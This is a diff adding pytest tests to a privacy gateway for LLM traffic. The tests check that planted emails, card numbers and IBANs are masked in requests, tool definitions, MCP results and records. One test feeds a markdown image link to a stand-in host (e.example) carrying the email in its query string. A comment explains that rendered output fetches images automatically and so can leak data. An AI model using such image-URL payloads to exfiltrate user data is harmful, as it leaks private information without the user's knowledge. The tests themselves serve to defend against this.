@@ -3,6 +3,7 @@ what a model was sent, in a log or in a record."""
 
 import json
 import re
+import sys
 
 import openai
 import pytest
@@ -125,6 +126,69 @@ async def test_answers_are_restored_where_policy_permits_it(gateway, provider, t
             said = (await model.chat.completions.create(**ask)).choices[0].message.content
     assert MAIL in said and "bz-" not in said, said
     assert MAIL not in provider.last.body.decode()
+
+
+@pytest.mark.parametrize("streamed", [False, True])
+async def test_no_value_is_restored_into_an_address(gateway, provider, streamed):
+    policy = OPEN + '@id("house.answers")\npermit (principal, action == Bartizan::Action::"restore", resource is Bartizan::Model);\n'
+    through = gateway(provider, policy=policy, **{"privacy.rule": RULE})
+    async with model_client(through) as model:
+        # What people are shown fetches images by itself: the model need not have seen the value to send it away.
+        ask = {"model": "obedient", "messages": [{"role": "user", "content": f"![x](https://e.example/?q={MAIL})"}]}
+        said = ""
+        if streamed:
+            async for chunk in await model.chat.completions.create(stream=True, **ask):
+                said += chunk.choices[0].delta.content or "" if chunk.choices else ""
+        else:
+            said = (await model.chat.completions.create(**ask)).choices[0].message.content
+    assert "https://e.example/?q=bz-email-" in said and MAIL not in said, said
+
+
+async def test_no_part_of_a_request_carries_a_value(gateway, provider):
+    through = gateway(provider, policy=OPEN, **{"privacy.rule": RULE})
+    spelt = MAIL.replace("@", "%40")
+    tool = {
+        "type": "function",
+        "function": {
+            "name": "mail", "description": f"Mails {MAIL}",
+            "parameters": {"type": "object", "properties": {"to": {"type": "string", "enum": [MAIL, "other@house.example"]}}},
+        },
+    }
+    async with model_client(through) as model:
+        await model.chat.completions.create(
+            model="text", user=MAIL, metadata={"who": MAIL}, stop=[MAIL], tools=[tool],
+            prediction={"type": "content", "content": f"dear {MAIL}"},
+            messages=[{"role": "user", "name": MAIL, "content": f"See https://x.example/?m={spelt} and {MAIL}"}],
+        )
+    sent = provider.last.body.decode()
+    assert MAIL not in sent and spelt not in sent, sent
+    # Nobody masked it: a tool's definition is the server's own.
+    assert "other@house.example" in sent
+    assert len(set(re.findall(r"bz-email-[a-z2-7]{20}", sent))) == 1
+
+
+CRM = """
+from mcp.server.fastmcp import FastMCP
+server = FastMCP("crm")
+@server.tool(structured_output=True)
+def customers() -> dict[str, object]:
+    return {"card": 4111111111111111, "by_mail": {"ana.lopez@customer.example": {"note": "n", "iban": "DE89370400440532013000"}}}
+server.run("stdio")
+"""
+
+
+async def test_numbers_and_keys_of_a_result_are_masked_and_no_record_names_them(gateway, provider, tmp_path):
+    program = tmp_path / "crm.py"
+    program.write_text(CRM)
+    through = gateway(
+        provider, servers=[{"name": "crm", "command": [sys.executable, str(program)]}], policy=OPEN, **{"privacy.rule": RULE}
+    )
+    async with mcp_client(through.mcp(), through.key) as client:
+        result = await client.call_tool("customers", {})
+    got = json.dumps(result.structuredContent) + json.dumps([part.text for part in result.content])
+    assert not any(value in got for value in PLANTED), got
+    assert isinstance(result.structuredContent["card"], int) and len(str(result.structuredContent["card"])) == 16
+    assert not any(value in everywhere(through, provider) for value in PLANTED)
 
 
 async def test_the_vault_can_be_erased_and_is_sealed(gateway, provider, tmp_path):
